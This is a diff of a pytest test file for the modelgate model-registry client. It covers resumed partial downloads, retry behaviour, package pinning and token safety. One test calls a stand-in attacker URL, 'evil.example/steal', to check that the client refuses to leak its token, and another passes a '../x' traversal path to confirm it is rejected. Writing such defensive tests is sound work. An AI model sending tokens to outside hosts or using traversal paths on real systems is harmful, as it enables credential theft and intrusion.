@@ -183,7 +183,9 @@ def test_a_download_resumes_a_partial_file(client, model_dir, tmp_path, monkeypa
     out = tmp_path / "out"
     out.mkdir()
     full = (model_dir / "model.bin").read_bytes()
-    (out / "model.bin.part").write_bytes(full[:300])
+    partial = out / ".modelgate-partial"  # where an interrupted download left its bytes
+    partial.mkdir()
+    (partial / hashlib.sha256(full).hexdigest()).write_bytes(full[:300])
     ranges: list[str | None] = []
     real = client.session.request
 
@@ -196,7 +198,26 @@ def test_a_download_resumes_a_partial_file(client, model_dir, tmp_path, monkeypa
     client.download("fraud", "churn", out, version="1.0.0")
     assert ranges == ["bytes=300-"]
     assert (out / "model.bin").read_bytes() == full
-    assert not (out / "model.bin.part").exists()
+    assert not partial.exists()  # cleaned up once nothing is partial
+
+
+def test_a_partial_download_never_touches_an_artifact_named_like_it(client, tmp_path: Path) -> None:
+    src = tmp_path / "src"
+    src.mkdir()
+    (src / "m").write_bytes(b"model")
+    (src / "m.part").write_bytes(b"a real artifact called m.part")
+    client.register_version("fraud", "churn", src, version="1.0.0", capture=False)
+    out = tmp_path / "out"
+    client.download("fraud", "churn", out, version="1.0.0")
+    (out / "m").unlink()  # re-sync after the model file was removed locally
+    client.download("fraud", "churn", out, version="1.0.0")
+    assert (out / "m").read_bytes() == b"model"
+    assert (out / "m.part").read_bytes() == b"a real artifact called m.part"
+
+
+def test_it_never_sends_the_token_to_another_host(client) -> None:
+    with pytest.raises(mg.ModelgateError, match="refusing to send the token"):
+        client.request("GET", "http://evil.example:9/steal")
 
 
 def test_a_checksum_mismatch_deletes_the_file_and_raises(client, model_dir, tmp_path, monkeypatch):
@@ -337,3 +358,44 @@ def test_collect_files_rejects_duplicates_and_missing(tmp_path):
         mg.client.collect_files([tmp_path / "missing"])
     with pytest.raises(ValueError, match="unsafe"):
         mg.client.collect_files({"../x": tmp_path / "a" / "x"})
+
+
+def test_it_does_not_repeat_a_registration_that_timed_out(client, model_dir, monkeypatch):
+    calls: list[str] = []
+    real = client.session.request
+
+    def timing_out(method: str, url: str, **kwargs: Any) -> requests.Response:
+        if method == "POST" and url.endswith("/versions"):
+            calls.append(url)
+            real(method, url, **kwargs)  # the server applies it; the answer is lost
+            raise requests.ReadTimeout("read timed out")
+        return real(method, url, **kwargs)
+
+    monkeypatch.setattr(client.session, "request", timing_out)
+    with pytest.raises(requests.ReadTimeout):
+        client.register_version("fraud", "churn", model_dir, version="1.0.0", capture=False)
+    assert len(calls) == 1  # not retried: the version exists once
+    assert [v["version"] for v in client.versions("fraud", "churn")] == ["1.0.0"]
+
+
+@pytest.mark.parametrize(
+    ("version", "line"),
+    [
+        ("1.26.4", "numpy==1.26.4"),
+        ("2.0.0rc1", "numpy==2.0.0rc1"),
+        ("1.1build1", "numpy===1.1build1"),
+        ("weird version", "numpy"),
+    ],
+)
+def test_it_pins_every_installed_package_in_a_form_the_server_accepts(version, line, monkeypatch):
+    from modelgate_client import capture
+    from packaging.requirements import Requirement
+
+    class Dist:
+        metadata = {"Name": "NumPy"}
+
+    dist = Dist()
+    dist.version = version
+    monkeypatch.setattr(capture.importlib.metadata, "distributions", lambda: [dist])
+    assert capture.packages() == [line]
+    Requirement(line)  # what the server parses it with
